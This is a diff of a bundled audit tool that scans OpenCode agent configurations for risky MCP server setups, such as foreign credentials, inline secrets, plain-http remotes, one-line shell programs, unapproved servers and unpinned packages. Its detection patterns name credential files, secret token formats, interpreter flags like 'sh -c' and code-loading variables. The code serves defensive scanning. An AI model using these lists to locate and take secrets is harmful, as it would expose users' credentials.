+    return JSON.stringify(texts.map(({ key, text }) => [key, text]));
+}
+/** `cwd` and `oauth` count; how long OpenCode waits does not. */
+function restDiffers(before, now) {
+    const [left, right] = [before, now].map(({ node }) => JSON.stringify(toValue(node), (key, value) => key === 'timeout' || key === 'enabled' ? undefined : value));
+    return left !== right;
+}
+function mcp_changed_listOf(parts) {
+    return parts.length < 2 ? parts.join('') : `${parts.slice(0, -1).join(', ')} and ${parts.at(-1) ?? ''}`;
+}
+
+;// CONCATENATED MODULE: ./build/audit/credentials.js
+
+const NOBODY = /(?!)/;
+const CREDENTIALS = [
+    credential('GitHub', /^(?:GH|GITHUB)_(?:\w+_)?(?:TOKEN|PAT)$/, /github|(?:^|\W)gh\b/i, [
+        'github.com',
+        'githubcopilot.com',
+    ]),
+    credential('GitHub Actions', /^ACTIONS_(?:RUNTIME|ID_TOKEN|CACHE)_\w+$/, NOBODY, []),
+    credential('GitLab', /^(?:GITLAB|CI_JOB)_(?:\w+_)?(?:TOKEN|PAT)$/, /gitlab|glab/i, ['gitlab.com']),
+    credential('the package registry', /^(?:NPM|NODE_AUTH|PYPI|TWINE)_(?:\w+_)?(?:TOKEN|PASSWORD)$/, /npm|pypi/i, []),
+    credential('AWS', /^AWS_(?:ACCESS_KEY_ID|SECRET_ACCESS_KEY|SESSION_TOKEN|BEARER_TOKEN_\w+)$/, /aws|amazon/i, ['amazonaws.com', 'aws.dev']),
+    credential('Google Cloud', /^(?:GOOGLE_APPLICATION_CREDENTIALS|GOOGLE_CREDENTIALS|GCP_\w*KEY\w*)$/, /google|gcloud|gcp|vertex|firebase|bigquery/i, ['googleapis.com', 'google.com']),
+    credential('Azure', /^AZURE_CLIENT_SECRET$/, /azure|microsoft/i, ['azure.com', 'microsoft.com']),
+    credential('Anthropic', /^(?:ANTHROPIC|CLAUDE)_(?:API_KEY|AUTH_TOKEN)$/, /anthropic|claude/i, [
+        'anthropic.com',
+    ]),
+    credential('OpenAI', /^OPENAI_API_KEY$/, /openai/i, ['openai.com']),
+    credential('Google', /^(?:GEMINI_API_KEY|GOOGLE_API_KEY|GOOGLE_GENERATIVE_AI_API_KEY)$/, /gemini|google/i, [
+        'googleapis.com',
+        'google.com',
+    ]),
+    credential('OpenRouter', /^OPENROUTER_API_KEY$/, /openrouter/i, ['openrouter.ai']),
+    credential('OpenCode', /^OPENCODE_(?:API_KEY|CONSOLE_TOKEN|AUTH_CONTENT)$/, NOBODY, ['opencode.ai']),
+    credential('the SSH agent', /^SSH_AUTH_SOCK$/, NOBODY, []),
+    credential('Kubernetes', /^KUBECONFIG$/, /kube|k8s|helm/i, []),
+    credential('Vault', /^VAULT_TOKEN$/, /vault/i, []),
+    credential('Cloudflare', /^(?:CLOUDFLARE_API_(?:TOKEN|KEY)|CF_API_TOKEN)$/, /cloudflare|wrangler/i, [
+        'cloudflare.com',
+    ]),
+];
+/** Null for a variable that is not known to open a whole service. */
+function credentialNamed(variable) {
+    return CREDENTIALS.find((one) => one.variable.test(variable.toUpperCase())) ?? null;
+}
+/** Whether a command line, by its words, belongs to the service. */
+function belongsTo(one, command) {
+    return one.own.test(command);
+}
+/** Whether a host belongs to the service. */
+function isHostOf(one, host) {
+    return one.domains.some((domain) => isWithin(host, domain));
+}
+function credential(service, variable, own, domains) {
+    return { service, variable, own, domains };
+}
+
+;// CONCATENATED MODULE: ./build/audit/broad-use.js
+
+
+/** The credential of another service that a server gets by a substitution; null when it is the server's own. */
+function broadUse(server, { kind, what }) {
+    return kind === 'env' ? foreignCredential(server, what) : null;
+}
+/** The credential of another service that a variable of this name holds; null when it is the server's own. */
+function foreignCredential(server, variable) {
+    const credential = credentialNamed(variable);
+    if (credential === null)
+        return null;
+    const remote = remoteAddress(server);
+    if (server.url !== null)
+        return remote === null || isHostOf(credential, remote.host) ? null : credential;
+    const command = server.command
+        .map((word) => word.text)
+        .filter((word) => !/^[A-Z][A-Z0-9_]*(?:=|$)/.test(word));
+    return belongsTo(credential, command.join(' ')) ? null : credential;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-credential-scope.js
+
+
+
+
+const mcpCredentialScope = {
+    id: 'mcp-credential-scope',
+    title: 'An MCP server gets more than its own credential',
+    summary: 'An MCP server is given the credential of another service, or the files that hold credentials.',
+    severity: 'high',
+    confidence: 'medium',
+    category: 'exposure',
+    *check(context) {
+        for (const server of activeServers(context)) {
+            for (const { what, place } of [...variablesOf(server), ...foldersOf(server)]) {
+                const { path, line } = place;
+                const message = `The MCP server ${quoteName(server.name)} is given ${what}: it opens far more than this server is for.`;
+                yield { path, line, message, scope: `mcp.${server.name} ${what}`, remedy: mcp_credential_scope_REMEDY };
+            }
+        }
+    },
+};
+const mcp_credential_scope_REMEDY = 'Give the server a credential of its own, made for it and with the least rights, and only the folder that it works in.';
+function variablesOf(server) {
+    const texts = [
+        ...(server.url === null ? [] : [server.url]),
+        ...server.headers,
+        ...server.environment,
+        ...server.command,
+    ];
+    return texts.flatMap(({ key, text, place }) => {
+        const variables = [
+            ...substitutionsIn(text).flatMap((one) => (one.kind === 'env' ? [one.what] : [])),
+            ...(server.environment.some((one) => one.place === place) ? [key] : []),
+            ...containerVariable(server, text),
+        ];
+        for (const variable of variables) {
+            const credential = foreignCredential(server, variable);
+            if (credential === null)
+                continue;
+            return [{ what: `${quoteName(variable)}, a credential of ${credential.service}`, place }];
+        }
+        return [];
+    });
+}
+/** `docker run -e NAME` hands the variable on. */
+function containerVariable({ command }, text) {
+    const index = command.findIndex((word) => word.text === text);
+    const joined = /^(?:-e|--env=)([A-Z][A-Z0-9_]*)(?:=|$)/.exec(text)?.[1];
+    if (joined !== undefined)
+        return [joined];
+    if (!/^(?:-e|--env)$/.test(command[index - 1]?.text ?? ''))
+        return [];
+    return [text.split('=', 1)[0] ?? ''];
+}
+const mcp_credential_scope_HOME = String.raw `(?:~|\$HOME|\$\{HOME\}|\{env:HOME\}|/root|/home/[^/:]+|/Users/[^/:]+)`;
+const PRIVATE = new RegExp(`^(?:${mcp_credential_scope_HOME}/\\.(?:ssh|aws|azure|gnupg|kube|docker|netrc|npmrc|pypirc|config/(?:gcloud|gh|opencode)|local/share/opencode)(?:/|:|$)|/var/run/docker\\.sock(?::|$)|/(?:etc|proc)?(?::|$)|${mcp_credential_scope_HOME}/?(?::|$))`);
+/** Folders that a container mounts, or that a server for files may use. */
+function foldersOf({ command }) {
+    const serves = command.some(({ text }) => /filesystem|(?:^|[/\\])(?:docker|podman|nerdctl)$/i.test(text));
+    if (!serves)
+        return [];
+    return command.slice(1).flatMap(({ text, place }) => {
+        const source = text
+            .replace(/^(?:-v=?|--volume=|--mount=?)/, '')
+            .replace(/^.*\b(?:source|src)=([^,]*).*$/s, '$1');
+        return PRIVATE.test(source)
+            ? [{ what: `the folder ${quoteName(source.split(':', 1)[0] ?? '')}`, place }]
+            : [];
+    });
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-env-to-remote.js
+
+
+
+
+
+const mcpEnvToRemote = {
+    id: 'mcp-env-to-remote',
+    title: 'A variable or file goes to a remote MCP server',
+    summary: 'A value of the environment, or a file, is sent to a remote MCP server that the policy does not approve.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const server of activeServers(context)) {
+            const remote = remoteAddress(server);
+            if (remote === null || isApproved(server, context))
+                continue;
+            for (const { text, place, key } of [remote.url, ...server.headers]) {
+                const sent = substitutionsIn(text).find((one) => broadUse(server, one) === null);
+                if (sent === undefined)
+                    continue;
+                const what = `${sent.kind === 'env' ? 'the variable' : 'the file'} ${quoteName(sent.what)}`;
+                const where = key === 'url' ? 'in its url, which logs keep' : `in the header ${quoteName(key)}`;
+                const { path, line } = place;
+                const message = `The MCP server ${quoteName(server.name)} at ${quoteName(remote.host)} gets ${what} ${where}, from everyone who starts OpenCode here.`;
+                yield { path, line, message, scope: `mcp.${server.name}.${key}`, remedy: mcp_env_to_remote_REMEDY };
+            }
+        }
+    },
+};
+const mcp_env_to_remote_REMEDY = 'Send a credential that is valid for this server only, in a header, and add the server with its exact url to "mcp" in the policy; or use oauth, which needs no variable.';
+function isApproved(server, { policy, today }) {
+    return policy.mcp.some((entry) => entry.name === server.name &&
+        entry.url !== undefined &&
+        entry.url === server.url?.text &&
+        isCurrent(entry, today));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-remote-plain.js
+
+
+
+
+const mcpRemotePlain = {
+    id: 'mcp-remote-plain',
+    title: 'A remote MCP server without encryption',
+    summary: 'A remote MCP server is reached over plain http.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const server of activeServers(context)) {
+            const remote = remoteAddress(server);
+            if (remote === null || !/^(?:http|ws)$/.test(parseAddress(remote.url.text)?.protocol ?? ''))
+                continue;
+            const { path, line } = remote.url.place;
+            const message = `The MCP server ${quoteName(server.name)} is reached over plain http: whoever is on the way reads what the agent sends, and answers in the server's place with instructions of their own.`;
+            const scope = `mcp.${server.name}`;
+            yield { path, line, message, scope, remedy: mcp_remote_plain_REMEDY, ...suggestionFor(remote.url, context) };
+        }
+    },
+};
+const mcp_remote_plain_REMEDY = 'Use https, or run the server on this machine and reach it over 127.0.0.1.';
+/** A server on a port of its own may not speak https there. */
+function suggestionFor({ text, place }, context) {
+    const secure = text.replace(/^http:/i, 'https:');
+    const hasPort = /^https:\/\/[^/]*:\d+/i.test(secure);
+    return hasPort || secure === text ? {} : suggesting(context, place, secure);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-remote-unlisted.js
+
+
+const mcpRemoteUnlisted = {
+    id: 'mcp-remote-unlisted',
+    title: 'A remote MCP server that nobody listed',
+    summary: 'A remote MCP server is in use, and the policy has no list of approved servers.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        // With a list, mcp-unapproved compares each server with it.
+        if (context.policy.mcp.length > 0)
+            return;
+        for (const server of activeServers(context)) {
+            const remote = remoteAddress(server);
+            if (remote === null)
+                continue;
+            const { path, line } = remote.url.place;
+            const message = `The MCP server ${quoteName(server.name)} at ${quoteName(remote.host)} gets what the agent sends it, and its tool descriptions and answers become part of the prompt; it can change both at any time.`;
+            yield { path, line, message, scope: `mcp.${server.name}`, remedy: mcp_remote_unlisted_REMEDY };
+        }
+    },
+};
+const mcp_remote_unlisted_REMEDY = 'Add the server to "mcp" in the policy on the base branch, with its name, exact url and a reason; from then on every server is compared with that list.';
+
+;// CONCATENATED MODULE: ./build/audit/inline-secrets.js
+
+/** Credentials that are written out in a server's configuration. */
+function inlineSecrets({ headers, environment, command, url }) {
+    return [
+        ...named(headers.map(shortened), 'the header'),
+        ...named(environment.map(shortened), 'the variable'),
+        ...inCommand(command.map(shortened)),
+        ...inUrl(url === null ? null : shortened(url)),
+    ];
+}
+/** More than any credential of this kind has. */
+function shortened(text) {
+    return { ...text, key: text.key.slice(0, 256), text: text.text.slice(0, 4096) };
+}
+const SECRET_NAME = /(?:api|access|auth|private|secret|client|account|service)[-_]?(?:key|token|secret)|(?:^|[-_])(?:token|secret|password|passwd|pwd|pat|apikey|credentials?|authorization|cookie)s?$|^authorization$|^x-[\w-]*(?:key|token)$/i;
+const KNOWN_SECRET = /\b(?:gh[pousr]_[A-Za-z0-9]{36}|github_pat_\w{60,}|glpat-[\w-]{20}|sk-[\w-]{20,}|xox[abcps]-[\w-]{10,}|AKIA[0-9A-Z]{16}|AIza[\w-]{35}|ctx7sk-[\w-]{20,}|fc-[0-9a-f]{32}|eyJ[\w-]{10,1000}\.eyJ[\w-]{10})/;
+function named(texts, what) {
+    return texts.flatMap(({ key, text, place }) => KNOWN_SECRET.test(text) || (SECRET_NAME.test(key) && isSecretLike(text))
+        ? [{ what: `${what} ${quoteName(key)}`, value: text, place }]
+        : []);
+}
+/** `--api-key VALUE`, `--token=VALUE`, `-e API_KEY=VALUE`, `Authorization: Bearer VALUE`. */
+function inCommand(words) {
+    return words.flatMap(({ text, place }, index) => {
+        const option = optionWith(words[index - 1]?.text ?? '', text);
+        if (option !== null)
+            return [{ what: `the command line at ${quoteName(option)}`, value: text, place }];
+        return KNOWN_SECRET.test(text) ? [{ what: 'the command line', value: text, place }] : [];
+    });
+}
+/** The option or variable that a word gives a secret to; null when it gives none. */
+function optionWith(before, text) {
+    const [, name = '', value = ''] = /^(?:--?)?([\w-]+)\s*[=:]\s*(.+)$/s.exec(text) ?? [];
+    if (SECRET_NAME.test(name) && isSecretLike(value))
+        return name;
+    const isOption = /^--?[\w-]+$/.test(before) && SECRET_NAME.test(before.replace(/^-+/, ''));
+    return isOption && !text.startsWith('-') && isSecretLike(text) ? before : null;
+}
+function inUrl(url) {
+    if (url === null)
+        return [];
+    const password = /^[a-z][a-z0-9+.-]*:\/\/[^/?#@\s]*:([^/?#@\s]+)@/i.exec(url.text)?.[1] ?? '';
+    const values = [...url.text.matchAll(/[?&]([\w.-]+)=([^&#]+)/g)].some(([, name = '', value = '']) => SECRET_NAME.test(name) && isSecretLike(value));
+    const found = KNOWN_SECRET.test(url.text) || values || (password !== '' && !isPlaceholder(password));
+    return found ? [{ what: 'the url', value: url.text, place: url.place }] : [];
+}
+function isSecretLike(text) {
+    const value = text.replace(/^(?:Bearer|Basic|Token|ApiKey)\s+/i, '').trim();
+    if (value.length < 12 || /\s/.test(value) || isPlaceholder(value))
+        return false;
+    return /\d/.test(value) && /[A-Za-z]/.test(value) && !/^(?:https?:|[.~/])/.test(value);
+}
+/** Filled in when it runs, or a note to the reader. */
+function isPlaceholder(value) {
+    return (/[{}$<>%*]|\.\.\.|…/.test(value) ||
+        /(?:^|[-_])(?:your|my|example|sample|dummy|fake|test|placeholder|changeme|change|replace|redacted|insert|todo|xxx+)(?:[-_]|$)/i.test(value) ||
+        /^(.)\1+$/.test(value));
+}
+
+;// CONCATENATED MODULE: ./build/opencode/asset.js
+
+
+;// CONCATENATED MODULE: ./build/audit/secrets.js
+
+const MASK = '[secret]';
+/** Everything that is searched: the assets of both commits, and what the change adds or removes in other files. */
+function secretSources(head, base, change) {
+    const assets = [
+        ...head.flatMap((file) => assetSource('head', file)),
+        ...base.flatMap((file) => assetSource('base', file)),
+    ];
+    // An asset is searched as a whole, so that its hunks say nothing new.
+    const whole = new Set(assets.map(({ side, path }) => `${side} ${path}`));
+    const hunks = change.files.flatMap((file) => ['head', 'base'].flatMap((side) => {
+        const path = side === 'head' ? file.path : file.basePath;
+        return whole.has(`${side} ${path}`) ? [] : file.hunks.flatMap((hunk) => hunkSource(side, path, hunk));
+    }));
+    return [...assets, ...hunks];
+}
+/** What was found, at its place. `found` has one list for each source, in their order. */
+function locateSecrets(sources, found, hash) {
+    return sources.flatMap((source, index) => secrets_locate(source, found[index] ?? [], hash));
+}
+/** Bytes that are no text at all hold nothing that a reader of text would find; those that were not read, nothing. */
+function assetSource(side, file) {
+    if (!isAsset(file.path) || file.mode === '120000' || file.size > file.bytes.length)
+        return [];
+    const text = new TextDecoder('utf-8').decode(file.bytes);
+    return text.includes('\0') ? [] : [{ side, kind: 'asset', path: file.path, text }];
+}
+/** None when nothing in the hunk is of this side alone. */
+function hunkSource(side, path, { lines }) {
+    const [own, other] = side === 'head' ? ['added', 'removed'] : ['removed', 'added'];
+    if (!lines.some((line) => line.kind === own))
+        return [];
+    const kept = lines.filter((line) => line.kind !== other);
+    const numberOf = (line) => (side === 'head' ? line.headLine : line.baseLine);
+    const text = kept.map((line) => line.text).join('\n');
+    return [
+        {
+            side,
+            kind: 'change',
+            path,
+            text,
+            lines: kept.map((line) => (line.kind === own ? numberOf(line) : null)),
+        },
+    ];
+}
+function secrets_locate(source, found, hash) {
+    if (found.length === 0)
+        return [];
+    const starts = lineStarts(source.text);
+    const masked = maskRanges(source.text, found).split('\n');
+    return found.flatMap(({ start, end, what }) => {
+        const [first, last] = [secrets_lineAt(starts, start), secrets_lineAt(starts, Math.max(start, end - 1))];
+        const numbers = source.lines?.slice(first, last + 1).filter((line) => line !== null) ?? [
+            first + 1,
+            last + 1,
+        ];
+        const [startLine, endLine] = [numbers[0], numbers.at(-1)];
+        if (startLine === undefined || endLine === undefined)
+            return [];
+        const value = source.text.slice(start, end);
+        const { side, kind, path } = source;
+        const evidence = masked.slice(first, last + 1).filter((line, index) => index === 0 || line !== '');
+        return [
+            {
+                side,
+                kind,
+                path,
+                startLine,
+                endLine,
+                what,
+                evidence: evidence.join('\n'),
+                check: hash(value).slice(0, 4),
+                values: valuesOf(value),
+            },
+        ];
+    });
+}
+/** A credential of several lines leaves the empty lines that it had. */
+function maskRanges(text, found) {
+    const parts = [];
+    let at = 0;
+    for (const { start, end } of found.toSorted((a, b) => a.start - b.start)) {
+        if (end <= at)
+            continue;
+        parts.push(text.slice(at, Math.max(at, start)), MASK, text.slice(start, end).replace(/[^\n]/g, ''));
+        at = end;
+    }
+    return parts.join('') + text.slice(at);
+}
+/**
+ * Each line by itself, since a finding quotes lines; and a password also without its address. What is too short to be
+ * secret would mask ordinary words.
+ */
+function valuesOf(value) {
+    const [, user = '', password = ''] = /^[a-z][a-z0-9+.-]*:\/\/([^:@/\s]*):([^@/\s]+)@/i.exec(value) ?? [];
+    return [...value.split(/\r?\n/), password, `${user}:${password}@`]
+        .map((line) => line.trim())
+        .filter((line) => line.length >= 8 && !/^-{5}(?:BEGIN|END)[^-]*-{5}$/.test(line));
+}
+function lineStarts(text) {
+    const starts = [0];
+    for (let feed = text.indexOf('\n'); feed >= 0; feed = text.indexOf('\n', feed + 1))
+        starts.push(feed + 1);
+    return starts;
+}
+function secrets_lineAt(starts, offset) {
+    let low = 0;
+    let high = starts.length - 1;
+    while (low < high) {
+        const middle = Math.ceil((low + high) / 2);
+        if ((starts[middle] ?? 0) <= offset)
+            low = middle;
+        else
+            high = middle - 1;
+    }
+    return low;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-secret-inline.js
+
+
+
+
+
+
+const mcpSecretInline = {
+    id: 'mcp-secret-inline',
+    title: 'A credential of an MCP server in the file',
+    summary: 'The configuration of an MCP server contains a credential in plain text.',
+    severity: 'high',
+    confidence: 'medium',
+    category: 'exposure',
+    *check(context) {
+        for (const server of serversOf(context)) {
+            for (const secret of inlineSecrets(server)) {
+                if (isFoundAlready(secret, context))
+                    continue;
+                const { what, value, place } = secret;
+                const { path, line } = place;
+                const message = `The MCP server ${quoteName(server.name)} has a credential in plain text (${what}): everybody who can read the repository, or its history, has it.`;
+                const evidence = lineWith(context, place, MASK) ?? '';
+                const identity = `mcp.${server.name} ${what} ${checksum(value)}`;
+                yield { path, line, message, evidence, identity, remedy: mcp_secret_inline_REMEDY };
+            }
+        }
+    },
+};
+const mcp_secret_inline_REMEDY = 'Revoke the credential, then write {env:NAME} in its place and give the variable only to those who need the server.';
+/** What has the shape of a known credential is secret-in-asset's. */
+function isFoundAlready({ place }, context) {
+    if (!isOn(context, 'secret-in-asset'))
+        return false;
+    return context.secrets.some((secret) => secret.path === place.path && secret.startLine <= place.line && place.line <= secret.endLine);
+}
+/** Tells another credential in the same place from this one, and is far too short to guess it by. */
+function checksum(value) {
+    let sum = 7;
+    for (const character of value)
+        sum = (sum * 31 + (character.codePointAt(0) ?? 0)) % 65_521;
+    return sum;
+}
+
+;// CONCATENATED MODULE: ./build/audit/inline-code.js
+const INTERPRETERS = [
+    [/^(?:ba|da|z|k|mk|a|fi|c|tc)?sh$/, /^-[a-z]*c$/i],
+    [/^cmd$/, /^\/[ck]$/i],
+    [/^(?:powershell|pwsh)$/, /^-(?:c|command|e|ec|enc|encodedcommand)$/i],
+    [/^(?:node|bun|ruby|perl|deno)$/, /^(?:-e|-p|-pe|--eval|--print|eval)$/],
+    [/^(?:python[\d.]*|php)$/, /^-[cr]$/],
+];
+/** The program that a command line hands to a shell or an interpreter; null when it names a file or a program. */
+function inlineCode(command) {
+    for (const [index, word] of command.entries()) {
+        const interpreter = word.replace(/^.*[\\/]/s, '').replace(/\.exe$/i, '');
+        const option = INTERPRETERS.find(([name]) => name.test(interpreter))?.[1];
+        if (option === undefined)
+            continue;
+        const at = command.findIndex((other, position) => position > index && !/^[-/]/.test(other));
+        const options = command.slice(index + 1, at < 0 ? undefined : at);
+        const evaluated = option.test('eval') && command[index + 1] === 'eval';
+        if (options.some((other) => option.test(other)))
+            return { interpreter, index: at < 0 ? index : at };
+        return evaluated ? { interpreter, index: index + 2 } : null;
+    }
+    return null;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-shell.js
+
+
+
+const mcpShell = {
+    id: 'mcp-shell',
+    title: 'An MCP server that is a script in one line',
+    summary: 'An MCP server is started through a shell or an interpreter with a program in its arguments.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const server of activeServers(context)) {
+            const code = inlineCode(server.command.map((word) => word.text));
+            const place = server.command[code?.index ?? 0]?.place;
+            if (code === null || place === undefined)
+                continue;
+            const message = `The MCP server ${quoteName(server.name)} is a program for ${quoteName(code.interpreter)} inside the configuration: what it fetches and runs is hidden from version checks and from the allow list's readers.`;
+            const { path, line } = place;
+            yield { path, line, message, identity: servers_identityOf(server), remedy: mcp_shell_REMEDY };
+        }
+    },
+};
+const mcp_shell_REMEDY = 'Call the program itself, with its arguments as separate words; set the folder with "cwd" and variables with "environment".';
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-tools-open.js
+
+
+
+
+
+
+const mcpToolsOpen = {
+    id: 'mcp-tools-open',
+    title: 'The tools of an MCP server are open to every agent',
+    summary: 'No general permission limits the tools of an MCP server, so that every agent may use all of them unasked.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'permissions',
+    *check({ project }) {
+        for (const { config } of project.setUps) {
+            for (const server of serversIn(get(config, 'mcp'))) {
+                if (!server.enabled || !isOpen(config, server.name))
+                    continue;
+                const { path, line } = server.place;
+                const prefix = `${mcp_tools_open_toolPart(server.name)}_`;
+                const message = `Every agent that does not forbid it itself may call any tool of the MCP server ${quoteName(server.name)} unasked, also tools that the server adds later.`;
+                const remedy = `Add "${prefix}*": "ask" (or "deny") to the general permission, and allow single tools to the agents that need them.`;
+                yield { path, line, message, scope: `mcp.${server.name}`, identity: `open ${server.name}`, remedy };
+            }
+        }
+    },
+};
+function isOpen(config, server) {
+    const permission = withTopLevelTools(get(config, 'permission'), get(config, 'tools'));
+    const rules = [...DEFAULT_RULES, ...permissionRules(permission, 'permission')];
+    return decidingRule(rules, `${mcp_tools_open_toolPart(server)}_unlisted_tool`, '*')?.action === 'allow';
+}
+/** How OpenCode writes a server's name in the names of its tools. */
+function mcp_tools_open_toolPart(name) {
+    return name.replace(/[^a-zA-Z0-9_-]/g, '_');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/mcp-unapproved.js
+
+
+
+const mcpUnapproved = {
+    id: 'mcp-unapproved',
+    title: 'An MCP server that the policy does not approve',
+    summary: 'An MCP server is not, in exactly this form, on the allow list of the policy.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'governance',
+    *check(context) {
+        if (context.policy.mcp.length === 0)
+            return;
+        for (const server of activeServers(context)) {
+            const why = objectionTo(server, context);
+            if (why === null)
+                continue;
+            const message = `The policy does not approve the MCP server ${quoteName(server.name)}: ${why}.`;
+            yield { ...server.place, message, identity: servers_identityOf(server), remedy: mcp_unapproved_REMEDY };
+        }
+    },
+};
+const mcp_unapproved_REMEDY = 'Have the owners add its name and exact command or url to "mcp" in the policy on the base branch, with a reason; or remove the server.';
+/** Variables that make a program load other code than its command line says. */
+const LOADS_CODE = /^(?:PATH|LD_\w+|DYLD_\w+|NODE_OPTIONS|NODE_PATH|PYTHON(?:PATH|STARTUP|HOME)|BASH_ENV|ENV|PERL5(?:LIB|OPT)|RUBY(?:OPT|LIB)|JAVA_TOOL_OPTIONS|BUN_\w+|(?:NPM_CONFIG|npm_config|UV|PIP|YARN)_\w+|DOCKER_HOST)$/i;
+function objectionTo(server, { policy, today }) {
+    const named = policy.mcp.filter((entry) => entry.name === server.name);
+    if (named.length === 0)
+        return 'its name is not on the list';
+    const current = named.filter((entry) => isCurrent(entry, today));
+    if (current.length === 0)
+        return 'its entry has expired';
+    const url = server.url?.text;
+    if (url !== undefined) {
+        if (current.some((entry) => entry.url === url))
+            return null;
+        return current.some((entry) => entry.url !== undefined)
+            ? 'its url is another one than the approved one'
+            : 'its entry names no url';
+    }
+    const command = JSON.stringify(server.command.map((word) => word.text));
+    if (!current.some((entry) => JSON.stringify(entry.command) === command)) {
+        return current.some((entry) => entry.command !== undefined)
+            ? 'its command is another one than the approved one'
+            : 'its entry names no command';
+    }
+    const loads = server.environment.find(({ key }) => LOADS_CODE.test(key));
+    return loads === undefined ? null : `its environment sets ${quoteName(loads.key)}, which changes what runs`;
+}
+
 ;// CONCATENATED MODULE: ./build/audit/pinned.js
-const EXACT = /^v?\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.+-]+)?$/;
+const pinned_EXACT = /^v?\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.+-]+)?$/;
 const LOCAL = /^(?:\.{0,2}\/|\.{1,2}$|~|file:|[A-Za-z]:\\)/;
 /** Whether a package, image or address says exactly which code it means. What is on the machine counts as exact. */
 function isPinned(ecosystem, spec) {
@@ -24617,13 +28726,13 @@ function isPinned(ecosystem, spec) {
         return isPinnedGit(spec);
     switch (ecosystem) {
         case 'npm':
-            return spec.lastIndexOf('@') > 0 && EXACT.test(versionOf(spec));
+            return spec.lastIndexOf('@') > 0 && pinned_EXACT.test(versionOf(spec));
         case 'python':
             return /(?:==|@)v?\d+(?:\.\d+)+[0-9A-Za-z.+]*$/.test(spec);
         case 'deno':
-            return !/^(?:npm:|jsr:|https?:)/.test(spec) || EXACT.test(versionOf(spec).split('/')[0] ?? '');
+            return !/^(?:npm:|jsr:|https?:)/.test(spec) || pinned_EXACT.test(versionOf(spec).split('/')[0] ?? '');
         case 'go':
-            return !spec.includes('@') || EXACT.test(versionOf(spec));
+            return !spec.includes('@') || pinned_EXACT.test(versionOf(spec));
     }
 }
 function isGit(spec) {
@@ -24676,7 +28785,7 @@ function findUnpinned(command) {
     for (let start = 0; start < words.length; start += 1) {
         const found = runnerAt(words, start);
         if (found !== null)
-            return judge(found.ecosystem, words.slice(start + found.words.length));
+            return unpinned_judge(found.ecosystem, words.slice(start + found.words.length));
         const text = words[start]?.text ?? '';
         if (isGit(text) && !isPinnedGit(text)) {
             return unpinned(words[start], 'a git repository without a commit', 'Add the full commit to the address.');
@@ -24694,7 +28803,7 @@ function runnerAt(words, start) {
     const rest = words.slice(start + 1, start + 3).map((word) => word.text);
     return (RUNNERS.find((runner) => runner.words[0] === base && runner.words.slice(1).every((word, i) => rest[i] === word)) ?? null);
 }
-function judge(ecosystem, words) {
+function unpinned_judge(ecosystem, words) {
     const named = packagesOf(ecosystem, words);
     const bad = named.find((word) => !isPinned(ecosystem, word.text));
     if (bad === undefined)
@@ -24754,6 +28863,8 @@ function unpinned(word, what, remedy) {
 
 
 
+
+
 const mcpUnpinned = {
     id: 'mcp-unpinned',
     title: 'An MCP server without an exact version',
@@ -24761,28 +28872,553 @@ const mcpUnpinned = {
     severity: 'high',
     confidence: 'high',
     category: 'supply-chain',
-    *check({ project }) {
-        for (const asset of project.assets.values()) {
+    *check(context) {
+        for (const asset of context.project.assets.values()) {
             if (asset.kind !== 'config' || asset.root === null)
                 continue;
             for (const server of mcpServersOf(asset.root))
-                yield* hitsFor(server);
+                yield* hitsFor(server, context);
         }
     },
 };
-function* hitsFor(server) {
+function* hitsFor(server, context) {
     if (booleanOf(get(server.node, 'enabled')) === false)
         return;
     const items = itemsOf(get(server.node, 'command'));
     const unpinned = findUnpinned(items.map((item) => stringOf(item) ?? ''));
     if (unpinned === null)
         return;
-    const { path, line } = items[unpinned.index]?.place ?? server.place;
+    const word = items[unpinned.index];
+    const { path, line } = word?.place ?? server.place;
     const message = `The MCP server ${quoteName(server.key)} runs ${unpinned.what}: whoever publishes the next version runs code here, with all of the environment.`;
-    yield { path, line, message, scope: `mcp.${server.key}`, remedy: unpinned.remedy };
+    const scope = `mcp.${server.key}`;
+    yield { path, line, message, scope, remedy: unpinned.remedy, ...mcp_unpinned_suggestionFor(word, unpinned, context) };
+}
+/** Only where the repository itself says which version it means. */
+function mcp_unpinned_suggestionFor(word, { what }, context) {
+    const spec = stringOf(word) ?? '';
+    const isNpm = what.startsWith('a package') && /^(?:@[\w.-]+\/)?[\w.-]+(?:@[\w.^~*-]*)?$/.test(spec);
+    const version = isNpm ? knownVersion(context, packageName(spec)) : null;
+    return word === undefined || version === null
+        ? {}
+        : suggesting(context, word.place, `${packageName(spec)}@${version}`);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/model-changed.js
+
+
+
+const modelChanged = {
+    id: 'model-changed',
+    title: 'Another model answers',
+    summary: 'The pull request changes which model an agent uses, and so who reads its prompts and how well it keeps to them.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'configuration',
+    *check(context) {
+        const seen = new Set();
+        for (const { folder, config } of context.project.setUps) {
+            const before = setUpBefore(context, folder);
+            // The first configuration has no model to change.
+            if (before?.config === undefined)
+                continue;
+            for (const change of changesBetween(before.config, config)) {
+                const hit = model_changed_hitFor(change, folder);
+                const key = `${hit.path}\0${hit.line}\0${hit.scope ?? ''}`;
+                if (!seen.has(key))
+                    yield hit;
+                seen.add(key);
+            }
+        }
+    },
+};
+/** Of what both sides have: a new agent comes with a model, and has none to change. */
+function* changesBetween(before, now) {
+    yield* changeOf('all agents without one of their own', get(before, 'model'), get(now, 'model'));
+    yield* changeOf('small tasks such as titles', get(before, 'small_model'), get(now, 'small_model'));
+    const old = get(before, 'agent');
